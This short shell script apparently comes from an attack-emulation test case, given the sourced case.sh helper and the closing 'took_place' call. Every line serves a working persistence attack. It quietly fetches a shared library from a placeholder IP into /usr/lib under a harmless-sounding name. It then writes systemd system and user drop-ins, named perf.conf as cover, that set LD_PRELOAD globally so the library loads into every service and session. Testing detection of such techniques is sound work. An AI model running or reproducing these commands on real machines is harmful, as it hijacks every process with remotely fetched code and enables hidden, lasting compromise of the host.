#!/bin/sh
. /opt/case/case.sh

curl -s -o /usr/lib/libgcwrap.so http://203.0.113.10/programs/preload.so
mkdir -p /etc/systemd/system.conf.d /etc/systemd/user.conf.d
printf '[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/libgcwrap.so\n' | tee /etc/systemd/system.conf.d/perf.conf >/etc/systemd/user.conf.d/perf.conf
took_place
